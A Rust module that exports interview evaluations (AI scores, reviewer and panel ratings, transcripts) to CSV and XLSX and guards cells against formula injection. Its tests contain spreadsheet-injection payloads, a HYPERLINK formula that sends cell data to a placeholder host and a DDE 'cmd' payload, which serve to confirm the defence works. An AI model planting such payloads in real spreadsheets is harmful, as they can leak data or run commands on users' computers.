//! The evaluation table: one row per interview with the candidate, the AI's assessment, this
//! reviewer's evaluation and the panel's, for spreadsheets and ATS imports. Written as CSV
//! (the `csv` crate, RFC 4180 quoting) or XLSX (`rust_xlsxwriter`); the cells are typed, so the
//! XLSX keeps numbers as numbers, dates as dates and IDs as text.

use serde_json::Value;

use crate::api::InterviewRecord;
use crate::api::related::RelatedKind;
use crate::review::{Decision, Review};

/// The most rows Excel opens (1,048,576 including the header).
pub const EXCEL_MAX_ROWS: usize = 1_048_575;

/// One cell of the table.
#[derive(Clone, Debug, PartialEq)]
pub enum Cell {
    /// Nothing (the value is absent).
    Empty,
    /// Text from the server or a reviewer (neutralised against formulas when written).
    Text(String),
    /// An identifier: text that must never become a number (leading zeros, 18 digits).
    Id(String),
    /// A number.
    Number(f64),
    /// An instant, written in UTC.
    Time(jiff::Timestamp),
    /// Yes or no.
    Bool(bool),
}

/// The table: a header and rows of the same width.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct Table {
    /// Column names.
    pub header: Vec<String>,
    /// One row per interview.
    pub rows: Vec<Vec<Cell>>,
}

/// What one row is made of.
#[derive(Clone, Copy, Debug)]
pub struct RowInput<'a> {
    /// The interview as the server sent it.
    pub record: &'a InterviewRecord,
    /// The candidate record (`GET /candidates/{id}`), if looked up.
    pub candidate: Option<&'a Value>,
    /// The agent record, if looked up.
    pub agent: Option<&'a Value>,
    /// The job record, if looked up.
    pub job: Option<&'a Value>,
    /// Every reviewer's review of the interview.
    pub reviews: &'a [Review],
    /// The reviewer the "Your …" columns are for.
    pub me: &'a str,
}

/// The fixed columns before the scores.
const LEAD: [&str; 13] = [
    "Candidate",
    "E-mail",
    "Job",
    "Agent",
    "Status",
    "Scheduled (UTC)",
    "Finished (UTC)",
    "Duration (min)",
    "Test",
    "AI rating",
    "Company fit",
    "Education",
    "Experience",
];

/// Builds the table of `inputs`: one column per numeric score under `analysis.specific` and
/// per criterion any review rates (the union over the rows, empty where absent).
pub fn build(inputs: &[RowInput<'_>]) -> Table {
    let mut scores: Vec<String> = Vec::new();
    let mut criteria: Vec<String> = Vec::new();
    for input in inputs {
        for (name, _) in score_cells(input.record) {
            if !scores.contains(&name) {
                scores.push(name);
            }
        }
        if let Some(mine) = mine(input) {
            for criterion in &mine.criteria {
                if !criteria.contains(&criterion.name) {
                    criteria.push(criterion.name.clone());
                }
            }
        }
    }
    let mut header: Vec<String> = LEAD.iter().map(|s| (*s).to_owned()).collect();
    header.extend(scores.iter().map(|s| format!("Score: {s}")));
    header.extend(["Your decision", "Your rating"].map(str::to_owned));
    header.extend(criteria.iter().map(|c| format!("Your rating: {c}")));
    header.extend(
        [
            "Your notes",
            "Panel advance",
            "Panel hold",
            "Panel reject",
            "Panel mean rating",
            "Interview ID",
            "Candidate ID",
            "Link",
        ]
        .map(str::to_owned),
    );
    let rows = inputs.iter().map(|input| row(input, &scores, &criteria)).collect();
    Table { header, rows }
}

/// This reviewer's review in `input`.
fn mine<'a>(input: &RowInput<'a>) -> Option<&'a Review> {
    input.reviews.iter().find(|r| r.reviewer == input.me)
}

/// `"<group> / <score>"` and the value of every numeric score of the analysis.
fn score_cells(record: &InterviewRecord) -> Vec<(String, f64)> {
    let Some(specific) = record.interview.analysis.as_ref().and_then(|a| a.specific.as_ref()) else {
        return Vec::new();
    };
    let mut cells = Vec::new();
    for group in crate::api::scores::score_groups(specific) {
        for score in group.scores {
            let Some(value) = score.value else { continue };
            let name =
                if group.name.is_empty() { score.label.clone() } else { format!("{} / {}", group.name, score.label) };
            if !cells.iter().any(|(n, _)| *n == name) {
                cells.push((name, value));
            }
        }
    }
    cells
}

fn text(value: Option<String>) -> Cell {
    value.filter(|v| !v.is_empty()).map_or(Cell::Empty, Cell::Text)
}

fn row(input: &RowInput<'_>, scores: &[String], criteria: &[String]) -> Vec<Cell> {
    let interview = &input.record.interview;
    let general = interview.analysis.as_ref().and_then(|a| a.general.as_ref());
    let name = |kind: RelatedKind, record: Option<&Value>| record.and_then(|r| kind.display_name(r));
    let email = input.candidate.and_then(|c| c.get("email")).and_then(Value::as_str).map(str::to_owned);
    let mut cells = vec![
        text(name(RelatedKind::Candidate, input.candidate)),
        text(email),
        text(name(RelatedKind::Job, input.job)),
        text(name(RelatedKind::Agent, input.agent)),
        text(interview.status.as_ref().map(ToString::to_string)),
        interview.scheduled_at.as_ref().and_then(|t| t.instant).map_or(Cell::Empty, Cell::Time),
        interview.finished_date.as_ref().and_then(|t| t.instant).map_or(Cell::Empty, Cell::Time),
        interview.duration_minutes.as_ref().and_then(|d| d.valid()).map_or(Cell::Empty, |d| Cell::Number(*d)),
        interview.is_test.as_ref().and_then(|t| t.valid()).map_or(Cell::Empty, |t| Cell::Bool(*t)),
        interview.overall_rating().map_or(Cell::Empty, Cell::Number),
        text(general.and_then(|g| g.company_fit_rating.clone())),
        text(general.and_then(|g| g.education.clone())),
        text(general.and_then(|g| g.experience.clone())),
    ];
    let own_scores = score_cells(input.record);
    for name in scores {
        cells.push(own_scores.iter().find(|(n, _)| n == name).map_or(Cell::Empty, |(_, v)| Cell::Number(*v)));
    }
    let mine = mine(input);
    cells.push(mine.and_then(Review::decision).map_or(Cell::Empty, |d| Cell::Text(d.label().to_owned())));
    cells.push(mine.and_then(Review::rating).map_or(Cell::Empty, |n| Cell::Number(f64::from(n))));
    for name in criteria {
        let rating = mine.and_then(|m| m.criteria.iter().find(|c| c.name == *name)).and_then(|c| c.rating);
        cells.push(rating.map_or(Cell::Empty, |n| Cell::Number(f64::from(n))));
    }
    cells.push(text(mine.map(|m| m.notes.clone())));
    let others: Vec<&Review> = input.reviews.iter().filter(|r| r.reviewer != input.me).collect();
    for decision in Decision::ALL {
        let count = others.iter().filter(|r| r.decision() == Some(decision)).count();
        cells.push(Cell::Number(count as f64));
    }
    let ratings: Vec<f64> = others.iter().filter_map(|r| r.rating()).map(f64::from).collect();
    cells.push(if ratings.is_empty() {
        Cell::Empty
    } else {
        Cell::Number(ratings.iter().sum::<f64>() / ratings.len() as f64)
    });
    cells.push(Cell::Id(interview.id.clone()));
    cells.push(interview.candidate_id.clone().map_or(Cell::Empty, Cell::Id));
    cells.push(Cell::Text(format!("https://app.instaview.sk/interviews/{}", interview.id)));
    cells
}

/// How the CSV is written.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct CsvOptions {
    /// The field separator: `,`, or `;` for Excel in locales whose decimal separator is a
    /// comma (then numbers are written with a decimal comma too).
    pub delimiter: u8,
    /// Start with a UTF-8 byte order mark, so Excel on Windows reads Slovak and Japanese names
    /// right (some other tools do not want one).
    pub bom: bool,
}

impl Default for CsvOptions {
    fn default() -> Self {
        Self { delimiter: b',', bom: true }
    }
}

/// Why a table could not be written.
#[derive(Debug, thiserror::Error)]
pub enum TableError {
    /// More rows than Excel opens: nothing is written rather than a file Excel cuts short.
    #[error(
        "{rows} interviews are more rows than Excel opens ({EXCEL_MAX_ROWS}); export fewer (filter by status or agent)"
    )]
    TooManyRows {
        /// How many rows there were.
        rows: usize,
    },
    /// The CSV writer failed (only on an I/O error of the buffer; not expected).
    #[error("the table could not be written: {0}")]
    Csv(#[from] csv::Error),
    /// The XLSX workbook could not be built.
    #[error("the workbook could not be written: {0}")]
    Xlsx(#[from] rust_xlsxwriter::XlsxError),
}

/// Neutralises a text that a spreadsheet would run as a formula (starting with `=`, `+`, `-`,
/// `@`, a tab or a carriage return) by putting an apostrophe before it; others are unchanged.
pub fn neutralise(text: &str) -> std::borrow::Cow<'_, str> {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        std::borrow::Cow::Owned(format!("'{text}"))
    } else {
        std::borrow::Cow::Borrowed(text)
    }
}

/// The table as CSV: RFC 4180 quoting, `\r\n` line ends, ISO 8601 UTC times, text cells
/// neutralised against formulas ([`neutralise`]), numbers as numbers.
///
/// # Errors
/// [`TableError::TooManyRows`] over Excel's row limit.
pub fn to_csv(table: &Table, options: CsvOptions) -> Result<Vec<u8>, TableError> {
    if table.rows.len() > EXCEL_MAX_ROWS {
        return Err(TableError::TooManyRows { rows: table.rows.len() });
    }
    let mut out = Vec::new();
    if options.bom {
        out.extend_from_slice("\u{feff}".as_bytes());
    }
    let mut writer = csv::WriterBuilder::new()
        .delimiter(options.delimiter)
        .terminator(csv::Terminator::CRLF)
        .quote_style(csv::QuoteStyle::Necessary)
        .from_writer(out);
    writer.write_record(table.header.iter().map(|h| neutralise(h).into_owned()))?;
    let decimal_comma = options.delimiter == b';';
    for row in &table.rows {
        let fields = row.iter().map(|cell| match cell {
            Cell::Empty => String::new(),
            Cell::Text(text) => neutralise(text).into_owned(),
            Cell::Id(id) => neutralise(id).into_owned(),
            Cell::Number(n) => {
                let text = format_number(*n);
                if decimal_comma { text.replace('.', ",") } else { text }
            }
            Cell::Time(at) => super::rfc3339_utc(*at),
            Cell::Bool(b) => if *b { "yes" } else { "no" }.to_owned(),
        });
        writer.write_record(fields)?;
    }
    writer.into_inner().map_err(|err| TableError::Csv(err.into_error().into()))
}

/// The most characters Excel keeps in a cell.
pub const EXCEL_MAX_CELL_CHARS: usize = 32_767;

/// One transcript turn for the XLSX's second sheet.
#[derive(Clone, Debug, PartialEq)]
pub struct TurnRow {
    /// The interview's ID.
    pub interview_id: String,
    /// The turn's position (1-based, as shown).
    pub turn: usize,
    /// Who spoke.
    pub speaker: String,
    /// When the turn starts, in seconds from the call's start, if known.
    pub start_seconds: Option<f64>,
    /// What was said.
    pub text: String,
}

/// Every turn of `record`'s transcript as [`TurnRow`]s (none when it has no turns).
pub fn turn_rows(record: &InterviewRecord) -> Vec<TurnRow> {
    let crate::api::transcript::Transcript::Turns(turns) = &record.interview.transcript else { return Vec::new() };
    turns
        .iter()
        .enumerate()
        .map(|(index, turn)| TurnRow {
            interview_id: record.interview.id.clone(),
            turn: index + 1,
            speaker: turn.speaker_name().to_owned(),
            start_seconds: turn.start,
            text: turn.text.clone(),
        })
        .collect()
}

/// Text Excel's XML can hold: control characters (but tab, line feed and carriage return) and
/// the non-characters U+FFFE and U+FFFF removed; cut at [`EXCEL_MAX_CELL_CHARS`] with a
/// marker that says so.
pub fn cell_text(text: &str) -> String {
    let clean: String = text
        .chars()
        .filter(|c| !matches!(c, '\u{0}'..='\u{8}' | '\u{b}' | '\u{c}' | '\u{e}'..='\u{1f}' | '\u{fffe}' | '\u{ffff}'))
        .collect();
    let count = clean.chars().count();
    if count <= EXCEL_MAX_CELL_CHARS {
        return clean;
    }
    let marker = format!(" … [cut: {} more characters; the export document has the whole text]", count - 30_000);
    let kept: String = clean.chars().take(30_000).collect();
    format!("{kept}{marker}")
}

/// The table as an XLSX workbook: sheet "Interviews" with typed cells (numbers, dates in UTC,
/// yes/no), IDs and every text as strings (never a formula), a bold frozen header row, an
/// autofilter and column widths from the content; with `turns`, a second sheet "Transcript"
/// with one row per turn.
///
/// # Errors
/// [`TableError::TooManyRows`] over Excel's row limit (the table or the turns), or
/// [`TableError::Xlsx`] when the workbook cannot be built.
pub fn to_xlsx(table: &Table, turns: Option<&[TurnRow]>) -> Result<Vec<u8>, TableError> {
    use rust_xlsxwriter::{ExcelDateTime, Format, Workbook};
    if table.rows.len() > EXCEL_MAX_ROWS {
        return Err(TableError::TooManyRows { rows: table.rows.len() });
    }
    if let Some(turns) = turns
        && turns.len() > EXCEL_MAX_ROWS
    {
        return Err(TableError::TooManyRows { rows: turns.len() });
    }
    let mut workbook = Workbook::new();
    let bold = Format::new().set_bold();
    let date = Format::new().set_num_format("yyyy-mm-dd hh:mm");
    let wrap = Format::new().set_text_wrap();
    let sheet = workbook.add_worksheet();
    sheet.set_name("Interviews")?;
    let mut widths: Vec<usize> = table.header.iter().map(|h| h.chars().count()).collect();
    for (col, name) in table.header.iter().enumerate() {
        sheet.write_string_with_format(0, col as u16, cell_text(name), &bold)?;
    }
    for (index, cells) in table.rows.iter().enumerate() {
        let row = (index + 1) as u32;
        for (col, cell) in cells.iter().enumerate() {
            let c = col as u16;
            let shown = match cell {
                Cell::Empty => 0,
                Cell::Text(text) | Cell::Id(text) => {
                    let text = cell_text(text);
                    sheet.write_string(row, c, &text)?;
                    text.lines().map(|l| l.chars().count()).max().unwrap_or(0)
                }
                Cell::Number(n) => {
                    sheet.write_number(row, c, *n)?;
                    8
                }
                Cell::Time(at) => {
                    let when = ExcelDateTime::from_timestamp(at.as_second())?;
                    sheet.write_datetime_with_format(row, c, &when, &date)?;
                    16
                }
                Cell::Bool(b) => {
                    sheet.write_boolean(row, c, *b)?;
                    5
                }
            };
            if let Some(width) = widths.get_mut(col) {
                *width = (*width).max(shown);
            }
        }
    }
    for (col, width) in widths.iter().enumerate() {
        sheet.set_column_width(col as u16, (*width as f64 + 2.0).min(60.0))?;
    }
    sheet.set_freeze_panes(1, 0)?;
    if !table.header.is_empty() {
        sheet.autofilter(0, 0, table.rows.len() as u32, (table.header.len() - 1) as u16)?;
    }
    if let Some(turns) = turns {
        let sheet = workbook.add_worksheet();
        sheet.set_name("Transcript")?;
        for (col, name) in ["Interview ID", "Turn", "Speaker", "Start (s)", "Text"].iter().enumerate() {
            sheet.write_string_with_format(0, col as u16, *name, &bold)?;
        }
        for (index, turn) in turns.iter().enumerate() {
            let row = (index + 1) as u32;
            sheet.write_string(row, 0, cell_text(&turn.interview_id))?;
            sheet.write_number(row, 1, turn.turn as f64)?;
            sheet.write_string(row, 2, cell_text(&turn.speaker))?;
            if let Some(start) = turn.start_seconds {
                sheet.write_number(row, 3, start)?;
            }
            sheet.write_string_with_format(row, 4, cell_text(&turn.text), &wrap)?;
        }
        for (col, width) in [38.0, 6.0, 16.0, 9.0, 100.0].iter().enumerate() {
            sheet.set_column_width(col as u16, *width)?;
        }
        sheet.set_freeze_panes(1, 0)?;
        sheet.autofilter(0, 0, turns.len() as u32, 4)?;
    }
    Ok(workbook.save_to_buffer()?)
}

/// A number without a needless `.0` (`4`, `7.5`, `85`).
fn format_number(n: f64) -> String {
    if n.fract() == 0.0 && n.abs() < 1e15 { format!("{n:.0}") } else { n.to_string() }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::review::Stamped;

    fn record(json: serde_json::Value) -> InterviewRecord {
        InterviewRecord::from_value(json).unwrap()
    }

    fn at() -> jiff::Timestamp {
        "2026-12-01T10:00:00Z".parse().unwrap()
    }

    #[test]
    fn csv_reads_back_with_typed_values_unicode_and_no_formulas() {
        let first = record(serde_json::json!({
            "id": "468768768833943384", "candidateId": "00012345", "status": "COMPLETED",
            "finishedDate": "2026-04-14T09:30:00Z", "durationMinutes": 18.5, "isTest": false,
            "analysis": {"general": {"overallRating": 85, "companyFitRating": "High"},
                "specific": {"skills": {"rust": 7.5, "sql": 6}}}
        }));
        let second = record(serde_json::json!({"id": "iv-2", "status": "SCHEDULED",
            "analysis": {"specific": {"skills": {"kafka": 3}}}}));
        let candidate = serde_json::json!({"firstName": "Ľubica", "lastName": "Šťastná", "email": "=HYPERLINK(\"http://x/?\"&A2,\"go\")"});
        let mut mine = Review::new("468768768833943384", "Jana", at());
        mine.decision = Some(Stamped { value: Decision::Advance, at: at() });
        mine.rating = Some(Stamped { value: 4, at: at() });
        mine.criteria = vec![crate::review::CriterionRating::new("SQL")];
        mine.criteria[0].rating = Some(5);
        mine.notes = "- strong SQL\n@SUM(1,1), \"quoted\"".into();
        let mut petr = Review::new("468768768833943384", "Petr", at());
        petr.decision = Some(Stamped { value: Decision::Reject, at: at() });
        petr.rating = Some(Stamped { value: 2, at: at() });
        let reviews = [mine, petr];
        let table = build(&[
            RowInput {
                record: &first,
                candidate: Some(&candidate),
                agent: None,
                job: None,
                reviews: &reviews,
                me: "Jana",
            },
            RowInput { record: &second, candidate: None, agent: None, job: None, reviews: &[], me: "Jana" },
        ]);
        let bytes = to_csv(&table, CsvOptions::default()).unwrap();
        assert!(bytes.starts_with(&[0xEF, 0xBB, 0xBF]), "a BOM for Excel");
        let mut reader = csv::ReaderBuilder::new().from_reader(&bytes[3..]);
        let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        let get = |row: usize, column: &str| {
            let index =
                header.iter().position(|h| h == column).unwrap_or_else(|| panic!("no column {column}: {header:?}"));
            rows[row].get(index).unwrap().to_owned()
        };
        assert_eq!(get(0, "Candidate"), "Ľubica Šťastná");
        assert_eq!(get(0, "E-mail"), "'=HYPERLINK(\"http://x/?\"&A2,\"go\")", "never a formula");
        assert_eq!(get(0, "Your notes"), "'- strong SQL\n@SUM(1,1), \"quoted\"");
        assert_eq!(get(0, "AI rating"), "85");
        assert_eq!(get(0, "Score: skills / rust"), "7.5");
        assert_eq!(get(1, "Score: skills / rust"), "", "empty where absent");
        assert_eq!(get(1, "Score: skills / kafka"), "3", "the union of the rows' scores");
        assert_eq!(get(0, "Finished (UTC)"), "2026-04-14T09:30:00Z");
        assert_eq!(get(0, "Duration (min)"), "18.5");
        assert_eq!(get(0, "Test"), "no");
        assert_eq!(get(0, "Your decision"), "Advance");
        assert_eq!(get(0, "Your rating: SQL"), "5");
        assert_eq!((get(0, "Panel reject"), get(0, "Panel advance")), ("1".to_owned(), "0".to_owned()));
        assert_eq!(get(0, "Panel mean rating"), "2");
        assert_eq!(get(0, "Interview ID"), "468768768833943384");
        assert_eq!(get(0, "Candidate ID"), "00012345", "leading zeros kept");

        let european = to_csv(&table, CsvOptions { delimiter: b';', bom: false }).unwrap();
        assert!(!european.starts_with(&[0xEF]));
        let mut reader = csv::ReaderBuilder::new().delimiter(b';').from_reader(european.as_slice());
        let first_row = reader.records().next().unwrap().unwrap();
        assert!(first_row.iter().any(|f| f == "7,5"), "decimal comma with a semicolon: {first_row:?}");
    }

    #[test]
    fn xlsx_reads_back_with_typed_cells_and_text_that_is_never_a_formula() {
        use calamine::{Data, Reader as _};
        let first = record(serde_json::json!({
            "id": "468768768833943384", "candidateId": "00012345", "status": "COMPLETED",
            "finishedDate": "2026-04-14T09:30:00Z", "isTest": true,
            "analysis": {"general": {"overallRating": 85}, "specific": {"skills": {"rust": 7.5}}},
            "transcript": [{"role": "CANDIDATE", "text": "=cmd|' /C calc'!A0", "startedAtSec": 3.5},
                           {"role": "AGENT", "text": "x\u{14}y\u{FFFF}z"}]
        }));
        let candidate = serde_json::json!({"firstName": "李", "lastName": "明", "email": "@SUM(1,1)"});
        let mut mine = Review::new("468768768833943384", "Jana", at());
        mine.notes = "n".repeat(40_000);
        mine.rating = Some(Stamped { value: 4, at: at() });
        let reviews = [mine];
        let input = RowInput {
            record: &first,
            candidate: Some(&candidate),
            agent: None,
            job: None,
            reviews: &reviews,
            me: "Jana",
        };
        let table = build(&[input]);
        let turns = turn_rows(&first);
        let bytes = to_xlsx(&table, Some(&turns)).unwrap();
        let mut workbook: calamine::Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(bytes)).unwrap();
        let sheet = workbook.worksheet_range("Interviews").unwrap();
        let column = |name: &str| table.header.iter().position(|h| h == name).unwrap() as u32;
        let cell = |name: &str| sheet.get_value((1, column(name))).cloned().unwrap_or(Data::Empty);
        assert_eq!(cell("Candidate"), Data::String("李 明".into()));
        assert_eq!(cell("E-mail"), Data::String("@SUM(1,1)".into()), "a string, never a formula");
        assert_eq!(cell("AI rating"), Data::Float(85.0));
        assert_eq!(cell("Score: skills / rust"), Data::Float(7.5));
        assert_eq!(cell("Your rating"), Data::Float(4.0));
        assert_eq!(cell("Test"), Data::Bool(true));
        assert_eq!(cell("Interview ID"), Data::String("468768768833943384".into()), "all 18 digits, as text");
        assert_eq!(cell("Candidate ID"), Data::String("00012345".into()), "leading zeros kept");
        assert!(matches!(cell("Finished (UTC)"), Data::DateTime(_)), "a real date: {:?}", cell("Finished (UTC)"));
        let Data::String(notes) = cell("Your notes") else { panic!("notes are text") };
        assert!(notes.chars().count() <= EXCEL_MAX_CELL_CHARS && notes.contains("cut: 10000 more characters"));
        let transcript = workbook.worksheet_range("Transcript").unwrap();
        assert_eq!(transcript.get_value((1, 4)).cloned(), Some(Data::String("=cmd|' /C calc'!A0".into())));
        assert_eq!(transcript.get_value((1, 3)).cloned(), Some(Data::Float(3.5)));
        assert_eq!(
            transcript.get_value((2, 4)).cloned(),
            Some(Data::String("xyz".into())),
            "XML-invalid characters dropped"
        );
        assert_eq!(workbook.sheet_names(), ["Interviews", "Transcript"]);
    }

    #[test]
    fn neutralising_touches_only_formula_starts() {
        assert_eq!(neutralise("=1+1"), "'=1+1");
        assert_eq!(neutralise("+420 123"), "'+420 123");
        assert_eq!(neutralise("\tx"), "'\tx");
        assert_eq!(neutralise("Strong on SQL"), "Strong on SQL");
        assert_eq!(neutralise("4 - 5"), "4 - 5");
    }
}
